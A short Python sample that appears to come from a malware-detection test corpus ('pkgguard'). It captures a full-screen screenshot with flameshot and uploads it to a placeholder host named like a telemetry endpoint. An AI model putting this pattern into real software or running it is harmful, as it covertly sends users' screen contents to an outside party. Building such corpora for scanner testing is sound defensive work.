# pkgguard corpus 619 (screenshot), modelled on [stealer-profile]; inert, never run.
import subprocess

import requests

shot = subprocess.run(["flameshot", "full", "--raw"], capture_output=True).stdout
if shot:
    requests.post("https://ui-telemetry.example/s", data=shot, timeout=15)
